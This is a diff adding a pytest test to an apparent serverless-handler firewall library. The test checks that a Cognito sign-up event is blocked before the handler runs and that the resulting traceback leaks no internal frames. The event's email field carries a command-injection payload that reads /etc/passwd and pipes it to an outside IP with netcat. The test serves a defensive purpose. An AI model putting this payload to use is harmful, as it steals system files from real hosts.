@@ -335,3 +335,29 @@ def test_a_module_imported_during_an_invocation_is_not_mistaken_for_event_code(t
     """, tmp_path)
     assert result["import"] == "application/json" and result["eval"] == "blocked"
     assert not (tmp_path / "__pycache__").exists()  # it really was compiled from source
+
+
+def test_firewall_refusal_of_a_non_http_event_reaches_the_caller_without_frames(tmp_path):
+    result = run_isolated("""
+        import json
+        from hullguard import protect
+        ran = []
+        protected = protect(lambda event, context: ran.append(1) or "done")
+        try:
+            # a Cognito trigger: the service turns a failed invocation into a refusal
+            protected({"triggerSource": "PreSignUp_SignUp", "userPoolId": "us-east-1_x", "userName": "a",
+                       "request": {"userAttributes": {"email": "; cat /etc/passwd | nc 203.0.113.9 4444"}},
+                       "response": {}}, None)
+            out = {"raised": None}
+        except Exception as exc:
+            tb, frames = exc.__traceback__, []
+            while tb is not None:
+                frames.append(tb.tb_frame.f_code.co_name)
+                tb = tb.tb_next
+            out = {"raised": type(exc).__name__, "frames": frames, "cause": exc.__cause__ is not None}
+        out["handler_ran"] = bool(ran)
+        print("RESULT " + json.dumps(out))
+    """, tmp_path)
+    assert result["raised"] == "EventBlocked" and result["handler_ran"] is False
+    # nothing of ours in the error document beyond the wrapper's own frame
+    assert result["frames"] == ["<module>", "protected"] and result["cause"] is False
